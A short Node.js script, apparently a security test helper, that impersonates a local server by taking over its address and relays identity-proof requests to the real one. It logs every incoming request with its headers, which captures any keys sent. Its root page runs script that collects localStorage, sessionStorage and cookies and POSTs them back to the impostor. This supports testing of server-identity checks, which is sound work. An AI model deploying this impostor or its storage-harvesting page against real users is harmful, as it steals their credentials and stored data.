// A process that has taken the address of our server: it writes every request that it gets to standard output, as a
// line of JSON, and answers as our server would, as far as it can. Arguments: host, port, and perhaps the address of a
// real server, to which requests for a proof are passed on.
const { createServer, request } = require("node:http");

const [host, port, relay] = process.argv.slice(1);

// A page of its own at our address can read what a page of ours has stored there.
const PAGE = `<!doctype html><title>impostor</title><script>
  const found = JSON.stringify({ local: { ...localStorage }, tab: { ...sessionStorage }, cookies: document.cookie });
  fetch("/found", { method: "POST", body: found }).then(() => { document.title = "found"; });
</script>`;

const JSON_ANSWERS = {
  "/readyz": { ready: true },
  "/identity": { object: "proxy.identity", proof: "A".repeat(43) },
  "/v1/models": { object: "list", data: [] },
  "/v1/proxy/code": { code: "code-of-the-impostor" },
};

createServer((asked, answer) => {
  const parts = [];
  asked.on("data", (part) => parts.push(part));
  asked.on("end", () => {
    const { method, url, headers } = asked;
    console.log(JSON.stringify({ method, url, headers, body: Buffer.concat(parts).toString() }));
    const [path] = url.split("?");
    if (path === "/identity" && relay) {
      request(`http://${relay}${url}`, (passedOn) => passedOn.pipe(answer)).end();
    } else if (path === "/") {
      answer.setHeader("content-type", "text/html").end(PAGE);
    } else if (path in JSON_ANSWERS) {
      answer.setHeader("content-type", "application/json").end(JSON.stringify(JSON_ANSWERS[path]));
    } else {
      const error = { message: "wrong key", code: "invalid_api_key" };
      answer.writeHead(401, { "content-type": "application/json" }).end(JSON.stringify({ error }));
    }
  });
}).listen(Number(port), host, () => console.log("listening"));
